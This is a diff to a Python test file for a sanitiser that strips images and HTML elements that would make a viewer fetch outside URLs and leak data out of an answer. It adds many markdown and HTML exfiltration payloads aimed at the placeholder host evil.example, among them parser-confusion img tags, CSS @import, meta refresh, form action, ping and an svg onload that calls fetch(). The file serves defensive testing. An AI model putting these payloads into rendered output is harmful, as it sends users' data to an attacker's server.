@@ -1,5 +1,7 @@
 """Images that would carry data out of an answer."""
 
+import re
+
 import pytest
 from markdown_it import MarkdownIt
 
@@ -40,14 +42,32 @@ RENDERER = MarkdownIt("commonmark", {"html": True})
         "![x](ftp://evil.example/48713)",
         '<img src="&#104;ttps&colon;&sol;&sol;evil.example/48713">',
         '<img src="/\t/evil.example/48713">',
+        '<img alt=">" src=https://evil.example/48713>',
+        '<img title="<" src=https://evil.example/48713>',
+        '<img src="https:evil.example/48713">',
+        '<table background="https://evil.example/48713">',
+        '<style>@import "https://evil.example/48713";</style>',
+        '<meta http-equiv=refresh content="0; url=https://evil.example/48713">',
+        '<form action="https://evil.example/48713"><button>a</button></form>',
+        '<a ping="https://evil.example/48713" href="#">a</a>',
+        '<object codebase="https://evil.example/48713" data=a></object>',
+        "<img " + "a" * 5_000 + ' src="https://evil.example/48713">',
+        '<?xml-stylesheet href="https://evil.example/48713"?>',
+        '<!DOCTYPE a SYSTEM "https://evil.example/48713">',
+        '<svg/onload=fetch("https://evil.example/48713")>',
+        "a ` b\n\n<img src=https://evil.example/48713>\n\nc ` d",
+        "\\`<img src=https://evil.example/48713>`",
+        '<a title="`"><img src=https://evil.example/48713><a title="`">',
+        "<div>\n`<img src=https://evil.example/48713>`\n</div>",
+        '<a title="![x](&#104;ttps://evil.example/48713)">',
     ],
 )
 def test_a_viewer_fetches_nothing(text: str) -> None:
     page = RENDERER.render(without_foreign_images(text))
 
-    assert "<img" not in page.lower()
-    assert "<div" not in page
-    assert "<link" not in page
+    elements = set(re.findall(r"<([^\s>/]+)", page.lower()))
+    assert elements <= {"p", "a", "blockquote", "code", "pre"}
+    assert 'href="#"' not in page
     assert "evil.example" in page, "a reader still sees the address"
 
 
@@ -60,6 +80,8 @@ def test_a_viewer_fetches_nothing(text: str) -> None:
         "![local](chart.png)",
         "Great![1](#note)",
         "a < b, b > c: http://site.example",
+        "Use `Vec<String>`, and ``a `<b>` c``.",
+        "```html\n<img src=https://site.example/a.png>\n```",
     ],
 )
 def test_other_text_stays(text: str) -> None:
